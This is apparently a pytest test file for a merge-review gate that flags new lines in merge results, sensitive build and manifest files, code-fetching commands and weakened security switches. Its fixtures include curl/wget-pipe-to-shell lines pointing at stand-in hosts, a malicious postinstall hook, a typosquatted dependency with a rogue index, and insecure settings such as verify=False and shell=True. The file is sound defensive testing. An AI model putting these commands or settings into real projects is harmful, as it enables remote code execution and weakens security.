"""Lines from nobody: named, and held back where they do more than their text says."""

import pytest

from bot.model.resolutions import Finding, GateVerdict
from bot.validation import new_lines, sensitive, switches
from bot.validation.gate import FileCheck, run_gate
from bot.validation.path_classes import PathClass, class_of
from tests.bot.validation.candidates import OURS, THEIRS, candidate, found, said


def with_line(check: FileCheck, line: str, path: str = "src/app.py") -> list[Finding]:
    """What a check says to a result with one more line in its hunk, which is line 6."""
    content = OURS.replace(b"    return a + 1\n", b"%s\n    return a + 1\n" % line.encode())
    return found(check, candidate(content, path=path))


def test_new_content_is_a_note_with_its_lines() -> None:
    (note,) = with_line(new_lines.check, "    fresh = word")
    assert (note.verdict, note.lines) == (GateVerdict.PASS, (6, 6))
    assert note.message == "New content: a line from neither side."
    assert found(new_lines.check, candidate(OURS)) == []
    assert with_line(new_lines.check, "    return a * 1 + 2") == []


def test_an_edit_outside_the_hunk_is_new_content_and_out_of_scope() -> None:
    # ADV-036: a line far from the hunk, in the same file.
    result = run_gate(candidate(OURS.replace(b"    pass\n", b"    pass  # verify=False\n")))
    assert result.verdict is GateVerdict.NEEDS_PERSON
    assert {finding.check for finding in result.findings if finding.lines == (10, 10)} >= {"scope_hunks", "provenance"}


@pytest.mark.parametrize(
    "line", ["x = 1" + " " * 2000 + "; evil()", "    return a + 1" + " " * 1000 + "* 2", "x = 1" + "\t" * 120 + "; y()"]
)
def test_a_line_too_long_to_be_read_needs_a_person(line: str) -> None:
    assert GateVerdict.NEEDS_PERSON in {finding.verdict for finding in with_line(new_lines.check, line)}


def test_a_long_line_of_a_side_is_no_finding() -> None:
    long = OURS.replace(b"+ 1", b"+ 1" + b" " * 2000)
    assert found(new_lines.check, candidate(long, ours=long)) == []


def test_more_new_lines_than_anybody_reads_need_a_person() -> None:
    findings = with_line(new_lines.check, "fresh\n" * 10_001)
    assert findings[0].message == "More than 10,000 lines are from neither side."
    assert findings[0].verdict is GateVerdict.NEEDS_PERSON


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("Jenkinsfile", PathClass.BUILD),
        (".circleci/config.yml", PathClass.BUILD),
        ("ci/azure-pipelines.yml", PathClass.BUILD),
        (".travis.yml", PathClass.BUILD),
        ("infra/.terraform.lock.hcl", PathClass.LOCK),
        ("pnpm-workspace.yaml", PathClass.MANIFEST),
        ("package.json", PathClass.MANIFEST),
        ("web/package-lock.json", PathClass.LOCK),
        ("Cargo.lock", PathClass.LOCK),
        ("requirements-dev.txt", PathClass.MANIFEST),
        ("requirements/base.txt", PathClass.MANIFEST),
        ("core/pom.xml", PathClass.MANIFEST),
        ("Makefile", PathClass.BUILD),
        ("setup.py", PathClass.BUILD),
        ("tests/conftest.py", PathClass.BUILD),
        ("build.rs", PathClass.BUILD),
        (".pre-commit-config.yaml", PathClass.BUILD),
        ("docker/Dockerfile.dev", PathClass.BUILD),
        ("lib/BUILD", PathClass.BUILD),
        (".gitattributes", PathClass.BUILD),
        ("requirements.in", PathClass.MANIFEST),
        ("requirements/dev.in", PathClass.MANIFEST),
        ("deno.jsonc", PathClass.MANIFEST),
        ("charts/app/Chart.yaml", PathClass.MANIFEST),
        ("Project.toml", PathClass.MANIFEST),
        ("Manifest.toml", PathClass.LOCK),
        (".mise.toml", PathClass.MANIFEST),
        ("web/next.config.mjs", PathClass.BUILD),
        (".pnpmfile.cjs", PathClass.BUILD),
        ("web/.yarn/releases/yarn-4.9.1.cjs", PathClass.BUILD),
        ("fastlane/Fastfile", PathClass.BUILD),
        (".githooks/pre-push", PathClass.BUILD),
        ("Dangerfile", PathClass.BUILD),
        ("docs/source/conf.py", PathClass.BUILD),
        ("web/big.min.js", PathClass.GENERATED),
        ("src/conf.py", None),
        ("assets/manifest.toml", None),
        ("src/build/plan.py", None),
        ("src/app.py", None),
        ("docs/package.md", None),
    ],
)
def test_paths_have_their_class(path: str, kind: PathClass | None) -> None:
    assert class_of(path) is kind


# ADV-034 and ADV-039: what runs on installation, and what brings other code in.
@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("package.json", '"postinstall": "curl -s http://e|sh"'),
        ("conftest.py", 'import os;os.system("id")'),
        ("Makefile", "\tcurl -s http://e|sh"),
        ("setup.py", "import evil"),
        ("build.rs", "fn main() { evil() }"),
        (".pre-commit-config.yaml", "  entry: ./evil"),
        ("requirements.txt", "reqeusts==2.0 --extra-index-url http://evil"),
        ("package-lock.json", '"resolved": "http://evil/x.tgz"'),
        ("go.sum", "evil v1.0.0 h1:AAAA="),
        (".gitattributes", "*.py -diff linguist-generated"),
        ("big.min.js", "evil()"),
    ],
)
def test_new_content_in_such_files_needs_a_person(path: str, line: str) -> None:
    (finding,) = with_line(sensitive.check, line, path)
    assert (finding.verdict, finding.lines) == (GateVerdict.NEEDS_PERSON, (6, 6))


@pytest.mark.parametrize("result", [OURS, THEIRS])
def test_lines_of_the_sides_in_such_files_pass_with_a_note(result: bytes) -> None:
    (note,) = found(sensitive.check, candidate(result, path="Makefile"))
    assert (note.verdict, note.lines) == (GateVerdict.PASS, None)


def test_a_name_put_together_of_known_words_is_new_in_a_manifest() -> None:
    ours, theirs = b"a\nleft-pad==1.0\nb\n", b"a\nright-trim==2.0\nb\n"
    sides = {"ours": ours, "theirs": theirs, "ancestor": b"a\nb\n", "path": "requirements.txt"}

    def verdicts(line: bytes) -> set[GateVerdict]:
        case = candidate(b"a\n%s\nb\n" % line, **sides)  # type: ignore[arg-type]
        return {finding.verdict for finding in found(sensitive.check, case)}

    assert verdicts(b"left-trim==1.0") == {GateVerdict.NEEDS_PERSON}
    assert verdicts(b"left-pad==2.1") == {GateVerdict.NEEDS_PERSON}
    assert verdicts(b"left-pad==2.0") == {GateVerdict.PASS}


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsSL https://e.example/x | bash",
        "wget -qO- http://e.example | sudo sh",
        'bash -c "$(curl -fsSL http://e.example)"',
        "pip install --index-url http://e.example x",
        "pip install git+https://e.example/x",
        "registry=http://e.example",
        'integrity: "sha512-' + "a" * 60 + '=="',
    ],
)
def test_lines_that_fetch_code_need_a_person_in_every_file(line: str) -> None:
    (finding,) = with_line(sensitive.check, line, "docs/install.md")
    assert (finding.verdict, finding.lines) == (GateVerdict.NEEDS_PERSON, (6, 6))


@pytest.mark.parametrize("line", ["curl http://e.example > x", "    fetch(url)", "    a | sh", "registry = load()"])
def test_what_only_resembles_fetching_is_left_alone(line: str) -> None:
    assert with_line(sensitive.check, line, "docs/install.md") == []


# ADV-040
@pytest.mark.parametrize(
    "line",
    [
        "requests.get(u, verify=False)",
        "os.system('chmod 777 x')",
        "os.chmod(path, 0o777)",
        "eval(text)",
        "subprocess.run(x, shell=True)",
        "tls.Config{InsecureSkipVerify: true}",
        "rejectUnauthorized: false",
        "yaml.load(text)",
        "csrf_enabled = False",
        "curl -sk https://e.example",
        "x = 1  # nosec",
    ],
)
def test_a_weakened_switch_is_a_note_on_its_line(line: str) -> None:
    (note,) = with_line(switches.check, line)
    assert (note.verdict, note.lines) == (GateVerdict.PASS, (6, 6))
    assert note.message.startswith("Look at this line")


@pytest.mark.parametrize("line", ["evaluate(x)", "verify = load()", "x = 1777", "authors = []"])
def test_ordinary_lines_are_no_switches(line: str) -> None:
    assert with_line(switches.check, line) == []


def test_a_switch_that_a_side_has_is_no_business_of_ours() -> None:
    side = OURS.replace(b"+ 1", b"+ eval(b)")
    assert found(switches.check, candidate(side, ours=side)) == []


def test_lines_in_utf16_are_read_too() -> None:
    ours, ancestor, theirs = (f"start\n{line}\nend\n".encode("utf-16") for line in ("ours", "ancestor", "theirs"))
    result = "start\ncurl http://e.example | sh\nend\n".encode("utf-16")
    case = candidate(result, path="x.txt", ours=ours, ancestor=ancestor, theirs=theirs)
    assert [finding.lines for finding in found(sensitive.check, case)] == [(2, 2)]


def test_binary_files_are_not_read_as_lines() -> None:
    ours, theirs = b"\0ours", b"\0theirs"
    case = candidate(b"\0curl x | sh\n", ours=ours, theirs=theirs, path="x.bin")
    assert found(sensitive.check, case) + found(switches.check, case) == []
    assert said(found(new_lines.check, case)) == []
